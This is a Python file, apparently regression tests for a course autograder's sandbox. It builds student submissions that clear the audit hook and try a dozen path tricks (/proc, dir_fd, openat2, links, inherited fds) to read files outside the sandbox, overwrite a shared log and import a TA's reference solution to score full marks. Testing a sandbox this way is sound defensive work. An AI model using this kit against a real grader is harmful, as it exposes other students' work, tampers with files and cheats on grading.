"""Issue 37's attacks on the user sandbox's files, as a student writes them: every spelling of a path
that reaches past the submission (absolute, relative after chdir, dir_fd, a `..` walk, openat2,
/proc/self/root, /proc/self/cwd, /proc/self/fd, another process's /proc entries, inherited fds, links),
aimed at what the kernel's file modes alone left open: an earlier classmate's results in a
`grade-batch --out` folder outside the course, and a world-readable copy of the course (a TA's clone)
whose reference/ an untouched stub imports to score full function points.

Each attacker reports through `comm_fraction`'s return value, which its feedback shows ("returned
N.0"): a bit per spelling that worked (READS, IMPORTS), so one grading run gives a verdict per attack.
"""
from __future__ import annotations

import re

from attack import UNHOOK

# the spellings of one read, in bit order; each returns the bytes it read or raises
READS = ("absolute", "relative_after_chdir", "dir_fd_of_root", "dot_dot_walk", "openat2", "proc_self_root",
         "proc_self_cwd", "proc_self_fd", "other_process", "inherited_fd", "symlink", "hardlink")
# the spellings of a sys.path entry that imports the TA clone's reference, in bit order
IMPORTS = ("absolute", "proc_self_root", "proc_self_fd", "relative_after_chdir")
# the ways to change a file every user may write by its mode (a shared log, say), in bit order
WRITES = ("append", "truncate")

_KIT = '''
import os, sys

def _read(path, dir_fd=None):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK, dir_fd=dir_fd)
    try:
        return os.read(fd, 1 << 16)
    finally:
        os.close(fd)

def _root_fd():
    return os.open("/", os.O_RDONLY | os.O_DIRECTORY)

def absolute(target):
    return _read(target)

def relative_after_chdir(target):
    here = os.getcwd()
    os.chdir(os.path.dirname(target))
    try:
        return _read(os.path.basename(target))
    finally:
        os.chdir(here)

def dir_fd_of_root(target):
    root = _root_fd()
    try:
        return _read(target.lstrip("/"), dir_fd=root)
    finally:
        os.close(root)

def dot_dot_walk(target):
    fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(40):
        up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = up
    try:
        return _read(target.lstrip("/"), dir_fd=fd)
    finally:
        os.close(fd)

def openat2(target):
    import ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0))
    fd = libc.syscall(437, -100, target.encode(), how, 24)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "openat2")
    try:
        return os.read(fd, 1 << 16)
    finally:
        os.close(fd)

def proc_self_root(target):
    return _read("/proc/self/root" + target)

def proc_self_cwd(target):
    here = os.getcwd()
    os.chdir("/")
    try:
        return _read("/proc/self/cwd" + target)
    finally:
        os.chdir(here)

def proc_self_fd(target):
    root = _root_fd()
    try:
        return _read("/proc/self/fd/%d%s" % (root, target))
    finally:
        os.close(root)

def other_process(target):
    """Through the grader's (the parent's) and init's /proc entries: root, cwd, open fds."""
    for pid in (os.getppid(), 1):
        for link in ("root", "cwd/" + os.path.relpath("/", "/proc/%d/cwd" % pid)):
            try:
                return _read("/proc/%d/%s%s" % (pid, link, target))
            except OSError:
                pass
        try:
            fds = os.listdir("/proc/%d/fd" % pid)
        except OSError:
            fds = []
        for fd in fds:
            try:
                data = _read("/proc/%d/fd/%s" % (pid, fd))
            except OSError:
                continue
            if MARKER in data:
                return data
    raise PermissionError("no other process")

def inherited_fd(target):
    """Any file descriptor the worker was started with, beside its protocol pipes."""
    for fd in range(3, 256):
        try:
            data = os.pread(fd, 1 << 16, 0)
        except OSError:
            continue
        if MARKER in data:
            return data
    raise PermissionError("none inherited")

def symlink(target):
    os.symlink(target, "escape-link")
    return _read("escape-link")

def hardlink(target):
    os.link(target, "escape-hard")
    return _read("escape-hard")

def append(path):
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, b"changed by student code")
    finally:
        os.close(fd)

def writes(path):
    """A bit per way of WRITES that changed the file at `path`."""
    mask = 0
    for bit, way in enumerate(WRITES):
        try:
            append(path) if way == "append" else os.truncate(path, 0)
            mask |= 1 << bit
        except BaseException:
            pass
    return mask

def reads(target):
    """A bit per spelling of READS that read the target."""
    mask = 0
    for bit, name in enumerate(READS):
        try:
            if MARKER in globals()[name](target):
                mask |= 1 << bit
        except BaseException:
            pass
    return mask
'''


def reader(target: str, marker: bytes, shared: str) -> str:
    """A module whose comm_fraction returns the READS mask of `target` (which holds `marker`), read
    with the audit hook cleared (attack.UNHOOK), plus 2^16 times the mask of the same spellings on its
    own module (CONTROL: what is allowed still reads, so the attempts ran), plus 2^32 times the
    WRITES mask of `shared`, a file every user may write."""
    return UNHOOK + _KIT + (f"\nREADS = {READS!r}\nWRITES = {WRITES!r}\nMARKER = {marker!r}\n"
                            f"MASK = reads({target!r})\nCHANGED = writes({shared!r})\n") + '''
MARKER = b"def "
CONTROL = reads(__file__)   # the same spellings on its own copy, which it may read: the kit ran

def comm_fraction(comm_s, compute_s):
    return float(MASK | CONTROL << 16 | CHANGED << 32)
'''


def hooked_walk(target: str, marker: bytes) -> str:
    """The issue's three lines, the audit hook left in place: the hook resolves a relative path against
    the working directory, not dir_fd, so `..` from a stdlib folder passes it and walks to /."""
    return f'''
import json, os
try:
    os.chdir(os.path.dirname(json.__file__))
    _fd = os.open(".", os.O_RDONLY)
    for _ in range(40):
        _fd = os.open("..", os.O_RDONLY, dir_fd=_fd)
    _got = os.read(os.open({target.lstrip("/")!r}, os.O_RDONLY, dir_fd=_fd), 1 << 16)
except OSError:
    _got = b""
def comm_fraction(comm_s, compute_s):
    return float({marker!r} in _got)
'''


def cloner(clone: str, functions: list[str]) -> str:
    """An untouched stub that imports the TA clone's reference (the first IMPORTS spelling that works)
    and answers `functions` with it; comm_fraction returns the IMPORTS mask."""
    return UNHOOK + f'''
import importlib, os, sys
CLONE = {clone!r}
IMPORTS = {IMPORTS!r}

def _spelled(name):
    if name == "absolute":
        return CLONE
    if name == "proc_self_root":
        return "/proc/self/root" + CLONE
    if name == "proc_self_fd":
        return "/proc/self/fd/%d%s" % (os.open("/", os.O_RDONLY | os.O_DIRECTORY), CLONE)
    os.chdir(CLONE)
    return "."

MASK, REF = 0, None
for _bit, _name in enumerate(IMPORTS):
    here = os.getcwd()
    try:
        for key in [k for k in sys.modules if k == "reference" or k.startswith("reference.")]:
            del sys.modules[key]
        sys.path.insert(0, _spelled(_name))
        importlib.invalidate_caches()
        _ref = importlib.import_module("reference.collectives")
        MASK |= 1 << _bit
        REF = REF or _ref
    except BaseException:
        pass
    finally:
        sys.path.pop(0)
        os.chdir(here)

if REF is not None:             # the reference's own functions, signatures and all
    for _f in {functions!r}:
        globals()[_f] = getattr(REF, _f)

def comm_fraction(comm_s, compute_s):
    return float(MASK)
'''


def returned(data: dict, item: str) -> int:
    """The number the attacker's `item` returned on its first worked example (its feedback line)."""
    output = next(t["output"] for t in data["tests"] if t["name"].startswith(f"{item}: worked"))
    found = re.search(r"returned (-?\d+(?:\.\d+)?)", output)
    assert found, output
    return int(float(found.group(1)))


def spellings(mask: int, names: tuple[str, ...]) -> list[str]:
    return [name for bit, name in enumerate(names) if mask >> bit & 1]
